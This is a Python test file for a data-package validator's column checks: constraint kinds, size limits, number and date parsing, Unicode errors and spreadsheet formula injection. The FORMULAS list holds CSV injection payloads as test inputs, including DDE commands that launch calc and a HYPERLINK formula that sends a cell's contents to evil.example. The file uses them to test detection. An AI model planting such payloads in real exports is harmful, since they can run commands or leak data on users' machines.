"""``libyadata.validate.columns``: one function per constraint kind, every kind the models use checked."""

from __future__ import annotations

import csv
import json
import re
import sys
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from libyadata import models
from libyadata.schema import table_fields
from libyadata.validate import columns, reading, structure, validate_package
from libyadata.validate.report import Report
from libyadata.validate.safety import Limits

FIXTURES = Path(__file__).resolve().parent / "fixtures"
sys.path.insert(0, str(FIXTURES))
try:
    import make_invalid
finally:
    sys.path.pop(0)

#: minLength is 1 wherever the models use it, and an empty cell is a missing value, so a CSV cell
#: cannot break it: no corpus case can exist.
UNBREAKABLE_IN_CSV = {"minLength"}


def case_of(kind: str) -> str:
    """The corpus case that breaks a constraint kind is named after it: maxLength -> max-length."""
    return re.sub(r"([A-Z])", r"-\1", kind).lower()


def kinds_used() -> set[str]:
    return {k for m in models.MODELS for f in table_fields(m) for k in f.get("constraints", {})} \
        - {"required", "enum", "unique"}


def test_every_constraint_kind_the_models_use_has_its_function_and_a_corpus_case():
    used = kinds_used()
    assert used <= set(columns.CONSTRAINTS), used - set(columns.CONSTRAINTS)
    names = {c.name for c in make_invalid.CASES}
    for kind in sorted(used - UNBREAKABLE_IN_CSV):
        case = case_of(kind)
        assert case in names, f"no corpus case {case!r} for the constraint {kind}: add it to make_invalid.py"
        expected = json.loads((FIXTURES / "invalid" / case / "expected.json").read_text(encoding="utf-8"))
        assert [e[0] for e in expected["errors"]] == ["constraint-error"], (case, expected)
    for kind in UNBREAKABLE_IN_CSV:
        assert all(f["constraints"][kind] <= 1 for m in models.MODELS for f in table_fields(m)
                   if kind in f.get("constraints", {}))


def test_a_constraint_kind_without_its_function_is_refused(monkeypatch):
    monkeypatch.delitem(columns.CONSTRAINTS, "minimum")  # as if the models had just started to use it
    with pytest.raises(TypeError, match=r"no check for the constraint\(s\) \['minimum'\]"):
        columns.field_specs.__wrapped__(models.Motive)


def test_a_new_kind_is_its_function_and_nothing_else(monkeypatch, package_copy):
    """What adding a kind asks for, run: the function in CONSTRAINTS, and the model's rule
    (here the field's Table Schema, as the model would generate it) — the check and its
    message follow, with the first-constraint-only rule of the other kinds."""
    fields = [dict(f) for f in table_fields(models.Motive)]
    rank = next(f for f in fields if f["name"] == "rank")
    rank["constraints"] = {**rank["constraints"], "exclusiveMaximum": 2}

    def below(col, typed, bound):
        import pyarrow.compute as pc

        return pc.greater_equal(typed, bound), lambda cell, _: f"{cell} is not below {bound}"

    monkeypatch.setitem(columns.CONSTRAINTS, "exclusiveMaximum", below)
    monkeypatch.setattr(columns, "table_fields", lambda model: fields if model is models.Motive else table_fields(model))
    columns.field_specs.cache_clear()
    try:
        problems = [p for p in validate_package(package_copy).problems if p.type == "constraint-error"]
    finally:
        monkeypatch.undo()
        columns.field_specs.cache_clear()
    assert problems and all(p.file == "data/motives.csv" and p.field == "rank" for p in problems)
    assert all(p.message.endswith("is not below 2") for p in problems)


#: What each kind's function flags in ``TEXT``/``NUMBERS`` with the value given (a kind added later
#: is held to the shape of the answer only: one flag per cell, none for an empty one).
EXPECTED = {"pattern": ("^a.$", [False, True, None]), "minLength": (3, [True, False, None]),
            "maxLength": (3, [False, True, None]), "minimum": (2, [True, False, None]),
            "maximum": (2, [False, True, None])}


@pytest.mark.parametrize("kind", sorted(columns.CONSTRAINTS))
def test_each_function_gives_a_mask_and_a_sentence(kind):
    import pyarrow as pa

    text = pa.chunked_array([["ab", "abcdef", None]])
    numbers = pa.chunked_array([[1, 5, None]])
    value, want = EXPECTED.get(kind, (2, None))
    mask, message = columns.CONSTRAINTS[kind](text, numbers, value)
    got = mask.to_pylist()
    assert got == want if want is not None else (len(got) == 3 and got[2] is None and mask.type == pa.bool_())
    sentence = message("abcdef" if kind in ("pattern", "minLength", "maxLength") else 5, 0)
    assert str(value) in sentence and "\n" not in sentence


def test_oversized_cell_is_refused(small_package, monkeypatch):
    pkg = small_package
    report = validate_package(pkg, limits=Limits(cell_bytes=20))
    got = {(p.type, p.file, p.field) for p in report.problems}
    assert ("size-limit", "data/actors.csv", "quote") in got
    assert {t for t, _, _ in got} == {"size-limit"}
    # The same when the columns that repeat (source_id's 24 bytes among them) are parsed dictionary-encoded.
    parsed = []
    monkeypatch.setattr(reading, "SAMPLE_ROWS", 4)
    monkeypatch.setattr(reading, "repeating", lambda *a, real=reading.repeating: parsed.append(real(*a)) or parsed[-1])
    again = validate_package(pkg, limits=Limits(cell_bytes=20))
    assert any(parsed)
    assert [(p.type, p.file, p.row, p.field, p.message) for p in again.problems] == \
        [(p.type, p.file, p.row, p.field, p.message) for p in report.problems]


def test_an_impossible_date_is_said_as_a_sentence():
    report = validate_package(FIXTURES / "invalid" / "type-error-impossible-date" / "package")
    assert {p.message for p in report.problems} == {"2017-02-30 is not a real date: February 2017 has 28 days"}


@settings(max_examples=100)
@given(st.from_regex(columns.INTEGER_RE, fullmatch=True))
def test_every_cell_the_integer_pattern_accepts_is_typed_as_its_number(cell):
    """Arrow's cast refused a leading "+" and raised out of the validator (exit 2)."""
    table = pa.table({"rank": pa.array([cell, "2"], pa.string())})
    raw = structure.RawTable("data/motives.csv", models.Motive, table, None, ["rank"])
    spec = next(s for s in columns.field_specs(models.Motive) if s.name == "rank")
    report = Report("pkg")
    checked = columns.check_field(report, raw, spec)
    assert checked.typed["rank"].to_pylist() == [int(cell), 2]
    assert "type-error" not in {p.type for p in report.problems}


FORMULAS = ["-2+3+cmd|' /C calc'!A0", '-0+HYPERLINK("http://evil.example/?"&A1,"x")', "-1+cmd|' /C calc'!A0",
            "-", "- a dash", "-x", "=1", "+x", "@SUM(A1)", "\tx", "\rx"]
NOT_FORMULAS = ["-3", "-0.5", "-.5", "-5.", "-1e-1", "-1uring his visit", "-2017 he said, and", "plain", "a-b", " -1"]


def test_a_cell_starting_with_a_minus_is_a_formula_when_it_can_call_something():
    # The classic DDE payload starts with "-" and a digit. A cell that starts so is refused when it
    # holds "(" or "|" (a function call, another program); a negative number and the article's own
    # words after a quote ("-2017 he said", which a span's quote_suffix must hold) are not.
    cells = FORMULAS + NOT_FORMULAS
    table = pa.table({"notes": pa.array(cells, pa.string())})
    raw = structure.RawTable("data/actors.csv", models.Actor, table, None, ["notes"])
    spec = next(s for s in columns.field_specs(models.Actor) if s.name == "notes")
    report = Report("pkg")
    columns.check_field(report, raw, spec)
    flagged = sorted(p.row for p in report.problems if p.type == "formula-injection")
    assert flagged == list(range(2, 2 + len(FORMULAS)))


@pytest.mark.parametrize("cell", ["+1", "+01"])
def test_a_signed_rank_is_a_formula_fault_and_the_package_is_still_judged(small_package, cell):
    path = small_package / "data" / "motives.csv"
    with open(path, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    rows[0]["rank"] = cell
    with open(path, "w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    report = validate_package(small_package)
    assert {(p.type, p.row, p.field) for p in report.problems if p.file == "data/motives.csv"
            and p.type not in ("byte-count", "hash-count")} == {("formula-injection", 2, "rank")}


@pytest.mark.parametrize("model, name, cell, message", [
    (models.Claim, "char_start", "1" * 30, "'" + "1" * 30 + "' has 30 digits, more than the 18 a whole number may have here"),
    (models.Claim, "char_start", "-1234567890123456789", "'-1234567890123456789' has 19 digits, more than the 18 a "
                                                         "whole number may have here"),
    (models.Claim, "char_start", "1e3", "'1e3' is not a whole number: write it with digits only, such as 3"),
    (models.Projection, "likelihood_low", "1e309", "'1e309' is too large a number (beyond about 1.8e308, the largest "
                                                   "a 64-bit float holds)"),
    (models.Projection, "likelihood_low", "0,5", "'0,5' is not a number: write it with digits and a point, such as 0.55"),
])
def test_a_cell_of_digits_too_large_for_its_type_is_said_to_be_too_large(model, name, cell, message):
    # "write it with digits only" was the advice for a cell written with digits only.
    table = pa.table({name: pa.array([cell], pa.string())})
    raw = structure.RawTable(f"data/{model.table}.csv", model, table, None, [name])
    spec = next(s for s in columns.field_specs(model) if s.name == name)
    report = Report("pkg")
    columns.check_field(report, raw, spec)
    assert [(p.type, p.message) for p in report.problems] == [("type-error", message)]


@pytest.mark.parametrize("model, name, cell, kind", [
    (models.Claim, "char_start", "633\x00", "unicode-error"),
    (models.Event, "date_start", "2017\x00-01-01", "unicode-error"),
    (models.Event, "date_start", "2017-01-01\u200b", "unicode-error"),
    (models.Motive, "rank", "=1", "formula-injection"),
])
def test_a_typed_cell_refused_for_its_characters_is_that_error_only(model, name, cell, kind):
    # A NUL in a number was a unicode error and a type error: one fault, two errors.
    table = pa.table({name: pa.array([cell, "x1"], pa.string())})
    raw = structure.RawTable(f"data/{model.table}.csv", model, table, None, [name])
    spec = next(s for s in columns.field_specs(model) if s.name == name)
    report = Report("pkg")
    checked = columns.check_field(report, raw, spec)
    assert [(p.type, p.row) for p in report.problems] == [(kind, 2), ("type-error", 3)]
    assert checked.bad[name].to_pylist() == [True, True]  # neither reaches the row checks
